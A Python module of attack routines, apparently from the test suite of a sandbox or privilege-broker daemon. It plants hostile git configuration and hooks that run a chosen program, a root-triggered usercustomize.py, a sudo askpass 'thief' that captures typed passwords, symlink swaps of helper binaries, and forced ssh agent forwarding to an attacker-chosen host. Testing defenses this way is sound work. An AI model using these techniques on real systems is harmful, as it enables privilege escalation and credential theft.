"""Attacks by programs that the daemon or root would start: git, ssh, what root loads from a home."""

import json, os, shutil, subprocess

from doors import Mcp, Request, ask, attempt, call, claustrum, command, told, reached

EVERY_HOOK = ("post-checkout", "pre-commit", "post-index-change", "reference-transaction", "fsmonitor-watchman")


def program(path, text):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as file:
        file.write(text)
    os.chmod(path, 0o755)


def repository(facts):
    """A repository whose configuration and hooks name a program."""
    place, evil = facts["repository"], facts["program"]
    program(evil, f"#!/bin/sh\n: >'{facts['witness']}'\n")
    git = lambda *words: subprocess.run(["git", "-C", place, *words], check=True, capture_output=True)
    os.makedirs(place)
    git("init", "-q", "-b", "trunk")
    with open(f"{place}/file", "w") as file:
        file.write("one\n")
    git("add", "file")
    git("commit", "-qm", "one")
    for name in ("core.fsmonitor", "core.sshCommand", "core.pager", "diff.external", "core.editor",
                 "filter.evil.clean", "filter.evil.smudge", "filter.evil.process"):
        git("config", name, evil)
    with open(f"{place}/.gitattributes", "w") as file:
        file.write("* filter=evil diff=evil\n")
    for hook in EVERY_HOOK:
        program(f"{place}/.git/hooks/{hook}", f"#!/bin/sh\nexec '{evil}'\n")
    with open(f"{place}/file", "a") as file:
        file.write("two\n")
    return "made"


def look(facts):
    """Has the daemon's git look at it, by every way there is."""
    place = facts["repository"]
    said = [claustrum(facts, method, path=place) for method in ("git.status", "git.info", "git.list_branches")]
    for door in ("hostel.sock", "zeroclaw.sock"):
        said.append(call(facts, "session/git_branch", door, session_id=facts["session"]))
    return said


def start_server(facts):
    """Has the ssh agent forwarded to a machine of the attacker's choice, which the list of machines says is known."""
    known = os.path.expanduser("~/.config/sudo-proxy/hosts.json")
    os.makedirs(os.path.dirname(known), exist_ok=True)
    with open(known, "w") as file:
        json.dump({"hosts": {facts["host"]: {"last_connected": "2026-01-01T00:00:00Z"}}}, file)
    child = os.fork()
    if child == 0:
        said = attempt(lambda: Mcp(facts).tool("start_server", host=facts["host"], forward_agent=True))
        reached(facts, "answered", str(said))
        os._exit(0)
    told(facts, "enough")
    os.kill(child, 9)
    os.waitpid(child, 0)
    return "tried"


def plant(facts):
    """Puts code where programs of root would find it: in the home, and in the place of sudo's helper."""
    home, witness, said = facts["home"], facts["witness"], []
    code = f"import os\nif os.getuid() == 0:\n    open({witness!r}, 'w').write('root')\n"

    def customization():
        place = subprocess.run(["python3", "-c", "import site; print(site.getusersitepackages())"], text=True,
                               capture_output=True, env={"HOME": home, "PATH": os.environ["PATH"]}).stdout.strip()
        os.makedirs(place, exist_ok=True)
        with open(f"{place}/usercustomize.py", "w") as file:
            file.write(code)
        return place
    said.append(attempt(customization))
    thief = f"{home}/thief"
    said.append(attempt(program, thief, f"#!/bin/sh\necho asked >>{facts['stolen']}\ncat >>{facts['stolen']}\n"))
    with open(f"{home}/.sudo.conf", "w") as file:
        file.write(f"Path askpass {thief}\n")

    def helper():
        found = []
        for name in os.listdir(f"{home}/.hostel/as"):
            run = f"{home}/.hostel/as/{name}/run"
            for link in ("hostel-askpass", "askpass"):
                attempt(os.remove, f"{run}/{link}")
                os.symlink(thief, f"{run}/{link}")
                found.append(link)
        return found
    said.append(attempt(helper))
    return said


def root_command(facts):
    """Asks for a command of root's that loads what was planted."""
    return ask(facts, facts["argv"], privileged=True, env=facts.get("env", {}))


def replace_program(facts):
    """Puts a changed copy in the place of the user's own hostel: the first way that works."""
    path = facts["hostel"]
    directory, said = os.path.dirname(path), []

    def put(target):
        shutil.copy(path, f"{target}.evil")
        with open(f"{target}.evil", "ab") as file:
            file.write(b"evil")
        os.rename(f"{target}.evil", target)

    def write():
        with open(path, "ab") as file:
            file.write(b"evil")

    def beside():
        os.mkdir(f"{directory}.evil")
        put(f"{directory}.evil/{os.path.basename(path)}")
        os.rename(directory, f"{directory}.moved")
        os.rename(f"{directory}.evil", directory)
    for way in (write, lambda: put(path), lambda: (os.remove(path), put(path)), beside):
        said.append(attempt(way))
        if not isinstance(said[-1], dict):
            break
    return said


def change_files(facts):
    """Changes files that a person runs later: in place, by a new file, and by another directory."""
    def append(path):
        with open(path, "a") as file:
            file.write("evil\n")

    def replace(path):
        with open(f"{path}.evil", "w") as file:
            file.write("evil\n")
        os.rename(f"{path}.evil", path)
    return [[attempt(append, path), attempt(replace, path)] for path in facts["paths"]]
